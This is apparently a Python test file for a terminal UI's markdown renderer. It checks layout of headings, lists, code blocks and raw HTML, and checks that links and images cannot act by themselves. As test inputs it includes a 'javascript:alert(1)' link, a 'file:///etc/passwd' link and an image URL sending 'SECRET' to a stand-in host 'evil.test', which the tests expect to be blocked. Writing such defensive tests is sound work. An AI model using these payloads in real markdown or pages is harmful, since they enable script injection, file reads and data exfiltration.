"""What markdown looks like, and that nothing in it acts by itself."""

from rein_tui.widgets.lines import lay_out
from rein_tui.widgets.markdown import markdown_pieces


def shown(source: str, width: int = 40) -> list[str]:
    """Rows as text."""
    return [(line.gutter.plain + line.body.plain).rstrip() for line in lay_out(markdown_pieces(source, width), width)]


def links(source: str) -> list[str]:
    """Targets that a click would open."""
    metas = [
        span.style.meta
        for piece in markdown_pieces(source, 80)
        for span in piece.body.spans
        if not isinstance(span.style, str)
    ]
    return [str(meta["link"]) for meta in metas if "link" in meta]


def test_blocks() -> None:
    assert shown("# T\n\ntext **b**\nmore\n\n> q\n\n---") == ["T", "", "text b more", "", "▎ q", "", "─" * 40]


def test_lists_keep_the_gaps_of_their_source() -> None:
    assert shown("1. a\n2. b\n   - c\n\n     d\n\n3. e") == [
        *("1. a", "2. b", "   ◦ c", "", "     d", "", "3. e"),
    ]
    assert shown("- [ ] a\n- [x] b") == ["• ☐ a", "• ☑ b"]


def test_code_keeps_its_indentation_and_folds() -> None:
    assert shown("```py\nif x:\n    y\n```") == ["│ if x:", "│     y"]
    assert shown("```\n" + "x" * 50 + "\n```", 20) == ["│ " + "x" * 18, "│ " + "x" * 18, "│ " + "x" * 14]


def test_html_is_text() -> None:
    assert shown("<thinking>a</thinking> <b>x</b>") == ["<thinking>a</thinking> <b>x</b>"]


def test_only_harmless_links_can_be_opened() -> None:
    assert links("[a](https://example.org) [b](javascript:alert(1)) [c](file:///etc/passwd) [d](mailto:a@b.c)") == [
        "https://example.org",
        "mailto:a@b.c",
    ]
    assert links("see https://example.org/x now") == ["https://example.org/x"]


def test_images_are_named_and_not_fetched() -> None:
    assert shown("![a cat](http://evil.test/?d=SECRET)") == ["[image: a cat]"]
